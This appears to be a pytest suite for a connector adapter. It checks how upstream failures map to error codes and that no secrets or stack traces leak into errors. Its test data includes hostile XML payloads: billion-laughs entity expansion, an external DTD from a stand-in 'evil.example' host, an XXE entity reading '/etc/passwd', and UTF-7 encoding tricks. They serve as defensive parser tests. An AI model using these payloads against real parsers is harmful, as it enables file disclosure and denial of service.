"""What goes wrong: each row has its code and its outcome, and nothing of the upstream's body gets out."""

from __future__ import annotations

import codecs

import msgspec
import pytest

from adapters._connectors.failures import exception, refused_object
from contracts.errors import GatewayError, Outcome
from contracts.operations import ChangeRecord, CreateRecord, Operation
from contracts.results import Scan
from tests.unit.adapters.connectors.rig import (
    PASSWORD,
    a_call,
    a_wire,
    an_adapter,
    an_object,
    at,
    data,
    http,
    listing,
    performed,
    scanned,
    upstream,
)

SECRET = "oops-4711"
PAGE = f"<html>{SECRET}</html>"
GENERAL = "Ultimo.Framework.Core.Tools.GeneralException"
STACK = "\r\n   at Ultimo.Web.Core.Authentication.ConnectorLogOn(String oops-4711)\r\n   at Foo.Bar()"
LAUGHS = '<!DOCTYPE Data [<!ENTITY a "oops-4711"><!ENTITY b "&a;&a;&a;&a;">]><Data>&b;</Data>'
ONE = an_object("Equipment", "Update", Id="00001")
READ = listing("Equipment")
WRITE = ChangeRecord(place=at("Equipment/00001"), body={"Description": "x"})
CREATE = CreateRecord(place=at("Equipment"), body={"Context": 1, "Status": 1})


async def failed(answer: bytes, operation: Operation) -> GatewayError:
    async with upstream(answer) as url:
        done = scanned if operation.safe else performed
        with pytest.raises(GatewayError) as told:
            await done(an_adapter(), operation, url)
    error = told.value
    shown = f"{error.detail} {msgspec.json.encode(error.upstream).decode()} {error.faults}"
    for leak in (SECRET, PASSWORD, "   at ", "ConnectorLogOn", "127.0.0.1", "<html", "evil.example"):
        assert leak not in shown
    return error


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b" \r\n",
        f"<html><body>{SECRET}</body></html>".encode(),
        f"<!DOCTYPE html><html>{SECRET}</html>".encode(),
        LAUGHS.encode(),
        b'<!DOCTYPE Data SYSTEM "http://evil.example/oops-4711.dtd"><Data/>',
        b'<!DOCTYPE Data [<!ENTITY x SYSTEM "file:///etc/passwd">]><Data>&x;</Data>',
        codecs.BOM_UTF16_LE + LAUGHS.encode("utf-16-le"),
        LAUGHS.encode("utf-16-be"),
        b"+ADwhDOCTYPE-oops-4711",
        ("<Data>" + f"<Object Type='{SECRET}'>" * 200).encode(),
        f"<Data><Object Type='{SECRET}".encode(),
        f"{SECRET} plainly".encode(),
        b"<Data>\xff\xfe</Data>",
        b"<Data>a\0b</Data>",
        f"<Wrong>{SECRET}</Wrong>".encode(),
        b"<Data><Object/>&oops-4711;</Data>",
    ],
)
async def test_an_answer_that_cannot_be_read(body: bytes) -> None:
    kind = 'text/xml; charset="utf-7"' if body.startswith(b"+") else "text/xml"
    error = await failed(http(body, kind=kind), READ)
    assert (error.code, error.outcome) == ("upstream_invalid_response", Outcome.REFUSED)
    if b"<Object/>" not in body:
        error = await failed(http(body, kind=kind), WRITE)
        assert (error.code, error.outcome) == ("upstream_invalid_response", Outcome.UNKNOWN)


@pytest.mark.parametrize(
    ("text", "code", "outcome"),
    [
        (
            GENERAL + ": Username or password not correct, login failed. ",
            "upstream_auth_failed",
            Outcome.REFUSED,
        ),
        (GENERAL + ": Import connector 'X' does not exist.", "connector_not_found", Outcome.REFUSED),
        (GENERAL + ": Import connector 'X' is not active.", "connector_not_found", Outcome.REFUSED),
        (GENERAL + ": 'Foo' is not a request property.", "upstream_rejected", Outcome.REFUSED),
        (GENERAL + f": It is locked. ---> System.X: {SECRET}", "upstream_rejected", Outcome.REFUSED),
        (f"System.NullReferenceException: {SECRET}.", "upstream_unavailable", Outcome.UNKNOWN),
        (
            f"System.Data.SqlClient.SqlException (0x80131904): {SECRET} ---> A: b",
            "upstream_unavailable",
            Outcome.UNKNOWN,
        ),
    ],
)
async def test_an_exception(text: str, code: str, outcome: Outcome) -> None:
    await _fails(500, text + STACK, code, outcome)


@pytest.mark.parametrize(
    ("status", "body", "code", "outcome"),
    [
        (500, PAGE, "upstream_unavailable", Outcome.UNKNOWN),
        (500, "", "upstream_unavailable", Outcome.UNKNOWN),
        (502, PAGE, "upstream_unavailable", Outcome.UNKNOWN),
        (503, SECRET, "upstream_unavailable", Outcome.UNKNOWN),
        (401, SECRET, "upstream_auth_failed", Outcome.REFUSED),
        (403, PAGE, "upstream_auth_failed", Outcome.REFUSED),
        (404, PAGE, "upstream_invalid_response", Outcome.REFUSED),
        (405, SECRET, "upstream_invalid_response", Outcome.REFUSED),
        (302, SECRET, "upstream_invalid_response", Outcome.REFUSED),
        (413, SECRET, "payload_too_large", Outcome.REFUSED),
        (429, SECRET, "quota_exceeded", Outcome.REFUSED),
    ],
)
async def test_a_status_of_failure(status: int, body: str, code: str, outcome: Outcome) -> None:
    await _fails(status, body, code, outcome)


async def _fails(status: int, body: str, code: str, outcome: Outcome) -> None:
    answer = http(body, status, "text/plain")
    error = await failed(answer, WRITE)
    assert (error.code, error.outcome) == (code, outcome)
    error = await failed(answer, CREATE)
    assert (error.code, error.outcome) == (code, outcome)
    assert error.retryable == (code == "quota_exceeded")
    error = await failed(answer, READ)
    assert (error.code, error.outcome) == (code, Outcome.REFUSED)
    assert error.retryable == (code in ("quota_exceeded", "upstream_unavailable"))


async def test_an_export_that_breaks_off_gives_what_came_and_then_says_so() -> None:
    body = data(an_object("Equipment", Id="1"), an_object("Equipment", Id="2"))[:-10]
    error = await failed(http(body), READ)
    assert error.code == "upstream_invalid_response"
    error = await failed(http(body, missing=10), READ)
    assert error.code in ("upstream_unavailable", "upstream_invalid_response")


async def test_whoever_stops_reading_gives_the_connection_back() -> None:
    objects = data(*[an_object("Equipment", Id=str(number)) for number in range(20_000)])
    async with upstream(http(objects)) as url, a_wire(url) as wire:
        call = a_call(READ)
        scan = await an_adapter().perform(call, wire.bound(call))
        assert isinstance(scan, Scan)
        first = await anext(scan.pieces)
        assert 0 < len(first) < 20_000
        await scan.pieces.aclose()
        assert len(call.journal.sends) == 1


async def test_a_write_whose_answer_breaks_off_before_anything_came_is_unknown() -> None:
    error = await failed(http("<Data>", missing=10), CREATE)
    assert error.outcome is Outcome.UNKNOWN


async def test_a_record_that_is_refused_has_the_sentence_and_the_code() -> None:
    message = (
        "Error while executing workflow 'X'. Message: 1015 The room is taken."
        "&#xD;&#xA;Cause: another one &lt;b&gt;is&lt;/b&gt; there."
    )
    answer = data(
        an_object(
            "Equipment",
            "Error",
            Id="00001",
            ErrorMessage="Cannot import: " + message,
            ShortErrorMessage=message,
        )
    )
    error = await failed(http(answer), WRITE)
    assert (error.code, error.outcome) == ("upstream_rejected", Outcome.REFUSED)
    assert error.detail == "The room is taken. Cause: another one is there."
    assert error.upstream is not None
    assert (error.upstream.adapter, error.upstream.status, error.upstream.code) == ("connector", 200, "1015")
    assert error.upstream.message == error.detail


@pytest.mark.parametrize(
    ("properties", "code", "detail"),
    [
        (
            {
                "ErrorMessage": "Cannot import 'A' 'Text': 'x' . Message: Rule_Name_1 It cannot be.\r\n Cause: so."
            },
            "Rule_Name_1",
            "It cannot be. Cause: so.",
        ),
        ({"errormessage": "Value 2024 is wrong"}, None, "Value 2024 is wrong"),
        ({"ErrorMessage": "long", "ShortErrorMessage": "short"}, None, "short"),
        ({"ErrorMessage": "Message: Not a rule"}, None, "Not a rule"),
        ({"ErrorMessage": "Ultimo.GeneralException: No.\r\n   at Foo()"}, None, "No."),
        ({"ErrorMessage": None}, None, "the upstream refused this without a reason"),
    ],
)
def test_messages_of_refused_objects(
    properties: dict[str, str | None], code: str | None, detail: str
) -> None:
    error = refused_object("connector", properties)
    assert error.detail == detail
    assert error.upstream is not None
    assert error.upstream.code == code


def test_a_sentence_without_an_exception_is_meant_for_people() -> None:
    assert exception("soap", WRITE, 500, "The import is locked.").code == "upstream_rejected"
